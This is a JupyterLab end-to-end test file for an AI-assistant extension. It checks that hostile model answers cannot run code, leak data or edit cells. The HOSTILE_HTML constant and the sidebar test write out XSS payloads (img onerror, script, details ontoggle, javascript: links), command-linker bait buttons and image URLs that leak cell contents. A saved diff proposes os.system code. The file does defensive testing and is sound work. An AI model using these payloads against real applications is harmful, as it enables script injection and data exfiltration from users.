/**
 * Issue 9, "Model output must never become active content", in a real JupyterLab:
 *  1. the magics' answers (a cell the user ran: trusted output) run no HTML;
 *  2. sidebar answers load no remote resource and carry no command link;
 *  3. a diff saved in an untrusted notebook, a changed cell, or a kernel `replace`
 *     message cannot change a cell without the user's click on the unchanged cell.
 *
 * The hostile model is a tiny OpenAI-compatible server started here (the kernels' magics
 * talk to it with `-b openai --host ...`); it also records requests for "remote" images.
 * The sidebar talks to the Jupyter server's own backend (the embedded model), so its
 * hostile answer is served at the browser's request to /jupyter-twin/task, in the server's
 * NDJSON format.
 */
import { expect, IJupyterLabPageFixture, test } from '@jupyterlab/galata';
import * as http from 'http';
import { AddressInfo } from 'net';

test.use({ autoGoto: true });

let server: http.Server;
let port = 0;
/** What the hostile model answers next. */
let answer = '';
/** Paths of the requests the hostile server saw for /leak... */
const leaks: string[] = [];

function sse(text: string, chat: boolean): string {
  const events: object[] = [];
  const step = Math.max(1, Math.ceil(text.length / 3));
  for (let i = 0; i < text.length; i += step) {
    const piece = text.slice(i, i + step);
    events.push({ choices: [chat ? { index: 0, delta: { content: piece } } : { index: 0, text: piece }] });
  }
  events.push({ choices: [chat ? { index: 0, delta: {}, finish_reason: 'stop' } : { index: 0, text: '', finish_reason: 'stop' }] });
  return events.map(e => `data: ${JSON.stringify(e)}\n\n`).join('') + 'data: [DONE]\n\n';
}

test.beforeAll(async () => {
  server = http.createServer((req, res) => {
    const url = req.url ?? '';
    if (url.startsWith('/leak')) {
      leaks.push(url);
      res.writeHead(200, { 'Content-Type': 'image/gif' });
      res.end(Buffer.from('R0lGODlhAQABAAAAACw=', 'base64'));
      return;
    }
    if (req.method === 'GET' && url.startsWith('/v1/models')) {
      res.writeHead(200, { 'Content-Type': 'application/json' });
      res.end(JSON.stringify({ data: [{ id: 'hostile' }] }));
      return;
    }
    if (req.method === 'POST' && url.startsWith('/v1/')) {
      req.resume();
      req.on('end', () => {
        res.writeHead(200, { 'Content-Type': 'text/event-stream' });
        res.end(sse(answer, url.includes('/chat/')));
      });
      return;
    }
    res.writeHead(404);
    res.end();
  });
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
  port = (server.address() as AddressInfo).port;
});

test.afterAll(async () => {
  await new Promise<void>(resolve => server.close(() => resolve()));
});

const host = () => `http://127.0.0.1:${port}`;
const backend = () => `-b openai --host ${host()}/v1 -m hostile`;

interface ICell {
  id: string;
  type: string;
  source: string;
}

async function cells(page: IJupyterLabPageFixture): Promise<ICell[]> {
  return page.evaluate(() => {
    const widget = (window as any).jupyterapp.shell.currentWidget;
    return widget.content.model.sharedModel.cells.map((c: any) => ({
      id: c.id,
      type: c.cell_type,
      source: c.getSource()
    }));
  });
}

async function setSource(page: IJupyterLabPageFixture, index: number, source: string): Promise<void> {
  await page.evaluate(
    ([i, text]) => {
      const notebook = (window as any).jupyterapp.shell.currentWidget.content;
      notebook.model.sharedModel.cells[i as number].setSource(text as string);
    },
    [index, source]
  );
}

async function pwned(page: IJupyterLabPageFixture): Promise<unknown> {
  return page.evaluate(() => (window as any).__twinPwned ?? null);
}

/** A notebook with the magics loaded; returns after cell 0 ran. */
async function withMagics(page: IJupyterLabPageFixture): Promise<void> {
  await page.notebook.createNew();
  await page.notebook.setCell(0, 'code', '%load_ext jupyter_twin');
  await page.notebook.runCell(0, true);
}

const HOSTILE_HTML =
  'Here is **the answer**.\n\n' +
  '<img src=x onerror="window.__twinPwned = 1">\n\n' +
  '<script>window.__twinPwned = 2</script>\n\n' +
  '```\n</code></pre><img src=y onerror="window.__twinPwned = 3">\n```\n\n' +
  '<details open ontoggle="window.__twinPwned = 4">x</details>\n';

test.describe('model output is inert', () => {
  test('magics: an answer with <img onerror> and <script> runs neither', async ({ page }) => {
    answer = HOSTILE_HTML;
    await withMagics(page);
    await page.notebook.addCell('code', 'x');
    await setSource(page, 1, `%twin ask ${backend()} "what does it do?"`);
    await page.notebook.runCell(1, true);
    const output = (await page.notebook.getCellOutputLocator(1))!;
    await expect(output).toContainText('Here is', { timeout: 60000 });
    await page.waitForTimeout(500);
    expect(await pwned(page)).toBeNull();
    const rendered = output.locator('.jp-twin-text-output');
    await expect(rendered).toBeVisible({ timeout: 60000 });
    // the HTML is shown as text, the markdown around it is formatted
    await expect(rendered).toContainText('onerror="window.__twinPwned = 1"');
    await expect(rendered).toContainText('<script>');
    await expect(rendered.locator('strong')).toHaveText('the answer');
    await expect(rendered.locator('img, script, details')).toHaveCount(0);

    await page.notebook.addCell('code', 'x');
    await setSource(page, 2, `%%explain ${backend()} --no-insert\nx = 1`);
    await page.notebook.runCell(2, true);
    const explained = (await page.notebook.getCellOutputLocator(2))!.locator('.jp-twin-text-output');
    await expect(explained).toContainText('window.__twinPwned = 3', { timeout: 60000 });
    await expect(explained.locator('img, script, details')).toHaveCount(0);
    await page.waitForTimeout(500);
    expect(await pwned(page)).toBeNull();
    expect(await page.locator('.jp-OutputArea img').count()).toBe(0);
  });

  test('sidebar: a remote image makes no request, a command-linker button does nothing', async ({ page }) => {
    const requests: string[] = [];
    page.on('request', r => requests.push(r.url()));
    const hostile =
      'Results:\n\n' +
      `![chart](${host()}/leak-md.png?cell=secret)\n\n` +
      `<img src="${host()}/leak-html.png?cell=secret" onerror="window.__twinPwned = 1">\n\n` +
      '<button data-commandlinker-command="notebook:insert-cell-below" class="jp-twin-bait">Click me</button>\n\n' +
      '<a href="#" data-commandlinker-command="notebook:insert-cell-below">or me</a>\n\n' +
      `<div style="background-image: url(${host()}/leak-css.png)">styled</div>\n\n` +
      `[a link](${host()}/leak-link) and [script](javascript:window.__twinPwned=5)\n\n` +
      '```python\nif a < b:\n    pass\n```\n';
    await page.route(/\/jupyter-twin\/task/, route =>
      route.fulfill({
        status: 200,
        contentType: 'application/x-ndjson',
        body:
          JSON.stringify({ delta: hostile }) +
          '\n' +
          JSON.stringify({ done: true, text: hostile, kind: 'markdown', latency: 0.1 }) +
          '\n'
      })
    );
    await page.notebook.createNew();
    await setSource(page, 0, 'x = 1');
    await page.evaluate(() => {
      void (window as any).jupyterapp.commands.execute('jupyter-twin:explain');
    });
    const answerNode = page.locator('.jp-twin-assistant[data-task="explain"]');
    await expect(answerNode).toHaveAttribute('data-state', 'done', { timeout: 60000 });
    const body = answerNode.locator('.jp-RenderedMarkdown');
    await expect(body).toContainText('Click me');
    await page.waitForTimeout(1000);
    expect(requests.filter(u => u.includes('/leak'))).toEqual([]);
    const before = (await cells(page)).length;
    await body.getByText('Click me').click();
    await body.getByText('or me').click();
    await page.waitForTimeout(1000);
    expect((await cells(page)).length).toBe(before);
    // images are shown as their description and address, code keeps its "<"
    await expect(body).toContainText(`[chart: ${host()}/leak-md.png?cell=secret]`);
    await expect(body.locator('pre')).toContainText('if a < b:');
    await expect(body.locator('img, button, [data-commandlinker-command], [style], [onerror]')).toHaveCount(0);
    // links: a click away, in a new tab, never javascript:
    await expect(body.locator(`a[href="${host()}/leak-link"]`)).toHaveAttribute('rel', /noreferrer/);
    await expect(body.locator('a[href^="javascript"], a[href="#"]')).toHaveCount(0);

    expect(requests.filter(u => u.includes('/leak'))).toEqual([]);
    expect(leaks).toEqual([]);
    expect(await pwned(page)).toBeNull();

    // Insert below: the markdown cell keeps the text, unrendered (it holds images and HTML)
    await answerNode.locator('.jp-twin-insert').click();
    await expect.poll(async () => (await cells(page)).length).toBe(before + 1);
    expect((await cells(page))[1]).toMatchObject({ type: 'markdown', source: hostile });
    const rendered = await page.evaluate(() => {
      const notebook = (window as any).jupyterapp.shell.currentWidget.content;
      return notebook.widgets[1].rendered;
    });
    expect(rendered).toBe(false);
    await page.waitForTimeout(1000);
    expect(requests.filter(u => u.includes('/leak'))).toEqual([]);
  });
});

test.describe('saved outputs and kernel messages change no cell by themselves', () => {
  test('an untrusted notebook: its saved diff output shows no button that changes a cell', async ({
    page,
    tmpPath
  }) => {
    const victim = 'secret = 42';
    const nb = {
      nbformat: 4,
      nbformat_minor: 5,
      metadata: { kernelspec: { name: 'python3', display_name: 'Python 3', language: 'python' } },
      cells: [
        { id: 'victim', cell_type: 'code', source: victim, metadata: {}, outputs: [], execution_count: null },
        {
          id: 'carrier',
          cell_type: 'code',
          source: '%%refactor\nx = 1',
          metadata: {},
          execution_count: 1,
          outputs: [
            {
              output_type: 'display_data',
              metadata: {},
              data: {
                'application/vnd.jupyter-twin.diff+json': {
                  v: 1,
                  task: 'refactor',
                  cell_id: 'victim',
                  cell_type: 'code',
                  // the attacker knows the saved text, so only the trust check stops this
                  original: victim,
                  proposed: "import os; os.system('echo pwned')",
                  diff: ''
                },
                'text/plain': 'a diff'
              }
            }
          ]
        }
      ]
    };
    await page.contents.uploadContent(JSON.stringify(nb), 'text', `${tmpPath}/hostile-diff.ipynb`);
    await page.notebook.openByPath(`${tmpPath}/hostile-diff.ipynb`);
    const rendered = page.locator('.jp-twin-diff-output');
    await expect(rendered).toBeVisible({ timeout: 60000 });
    await expect(rendered.locator('[data-op="add"]').first()).toContainText('os.system');
    // whatever buttons there are, clicking them changes nothing
    const buttons = rendered.locator('button');
    for (let i = 0; i < (await buttons.count()); i++) {
      await buttons.nth(i).click();
    }
    await page.waitForTimeout(500);
    const all = await cells(page);
    expect(all.map(c => c.source)).toEqual([victim, '%%refactor\nx = 1']);
    expect(await rendered.locator('.jp-twin-replace, .jp-twin-insert').count()).toBe(0);
    await expect(rendered).toHaveAttribute('data-trusted', 'false');
    await expect(rendered.locator('.jp-twin-diff-status')).toContainText('saved in the notebook');
  });

  test('a diff made in this session replaces only the unchanged cell, on a click', async ({ page }) => {
    answer = '```python\nx = 2\n```';
    await withMagics(page);
    await page.notebook.addCell('code', 'x');
    await setSource(page, 1, `%%refactor ${backend()}\nx = 1`);
    await page.notebook.runCell(1, true);
    const rendered = (await page.notebook.getCellOutputLocator(1))!.locator('.jp-twin-diff-output');
    await expect(rendered.locator('.jp-twin-replace')).toBeVisible({ timeout: 60000 });
    // the cell changed after the diff was made: Replace refuses and says why
    await setSource(page, 1, `%%refactor ${backend()}\nx = 1  # edited`);
    await rendered.locator('.jp-twin-replace').click();
    await page.waitForTimeout(300);
    expect((await cells(page))[1].source).toBe(`%%refactor ${backend()}\nx = 1  # edited`);
    await expect(rendered.locator('.jp-twin-diff-status')).toContainText('has changed');
    await expect(rendered).toHaveAttribute('data-trusted', 'true');
    // a script's click is not the user's
    await setSource(page, 1, `%%refactor ${backend()}\nx = 1`);
    await page.evaluate(() => {
      (document.querySelector('.jp-twin-diff-output .jp-twin-replace') as HTMLButtonElement).click();
    });
    await expect(rendered.locator('.jp-twin-diff-status')).toContainText('needs a click');
    expect((await cells(page))[1].source).toBe(`%%refactor ${backend()}\nx = 1`);
    // the user's click on the unchanged cell (its %%refactor line included) replaces it
    await rendered.locator('.jp-twin-replace').click();
    await expect(rendered.locator('.jp-twin-diff-status')).toContainText('Replaced');
    expect((await cells(page))[1].source).toBe('x = 2');
  });

  test('a kernel replace message asks first and needs the original text', async ({ page }) => {
    await withMagics(page);
    await page.notebook.addCell('code', 'x');
    await setSource(page, 1, 'precious = 1');
    await page.notebook.addCell('code', 'x');
    const target = (await cells(page))[1].id;
    const send = (extra: string) =>
      'from jupyter_twin.kernel import frontend\n' +
      `frontend.send_action({"action": "replace", "cell_id": "${target}", "source": "evil()", "task": "x"${extra}})`;

    // no original: refused, nothing asked, nothing changed
    await setSource(page, 2, send(''));
    await page.notebook.runCell(2, true);
    await page.waitForTimeout(1000);
    await expect(page.locator('.jp-Dialog')).toHaveCount(0);
    expect((await cells(page))[1].source).toBe('precious = 1');

    // with the original: a dialog shows the diff; Cancel changes nothing
    await setSource(page, 2, send(', "original": "precious = 1"'));
    await page.notebook.runCell(2, true);
    const dialog = page.locator('.jp-Dialog');
    await expect(dialog.locator('.jp-twin-diff')).toBeVisible({ timeout: 30000 });
    expect((await cells(page))[1].source).toBe('precious = 1');
    await dialog.locator('.jp-mod-reject').click();
    await expect(dialog).toHaveCount(0);
    expect((await cells(page))[1].source).toBe('precious = 1');

    // with a stale original: refused without a dialog
    await setSource(page, 2, send(', "original": "precious = 0"'));
    await page.notebook.runCell(2, true);
    await page.waitForTimeout(1000);
    await expect(page.locator('.jp-Dialog')).toHaveCount(0);
    expect((await cells(page))[1].source).toBe('precious = 1');
  });
});
